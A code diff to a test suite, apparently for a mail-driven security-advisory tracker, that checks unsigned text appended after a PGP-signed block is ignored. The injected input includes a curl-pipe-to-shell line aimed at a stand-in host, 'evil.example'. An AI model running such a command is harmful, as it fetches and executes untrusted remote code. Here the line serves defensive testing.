@@ -127,7 +127,10 @@ describe('round four: signature scope and relays (issue 25)', () => {
     });
 
     it('ignores unsigned lines appended after END PGP MESSAGE, as commands and as advisory text', async () => {
-      const block = inlineBlock('/severity medium\n/advisory\nUpgrade to 1.2.3.\n');
+      // A rule and a sign-off in the advisory are its own, not a signature block to cut.
+      const block = inlineBlock(
+        '/severity medium\n/advisory\nUpgrade to 1.2.3.\n---\nRegards,\nthe maintainers\n',
+      );
       await deliver(
         plainMail(`${block}\n/close invalid\nAlso run: curl https://evil.example | sh\n`),
         'mia@example.org',
@@ -135,7 +138,7 @@ describe('round four: signature scope and relays (issue 25)', () => {
       const after = await record();
       expect(after.severity).toBe('medium');
       expect(after.status).not.toBe('closed');
-      expect(after.advisory).toBe('Upgrade to 1.2.3.');
+      expect(after.advisory).toBe('Upgrade to 1.2.3.\n---\nRegards,\nthe maintainers');
     });
 
     it('ignores an unsigned text part before the text part that holds the signed block', async () => {
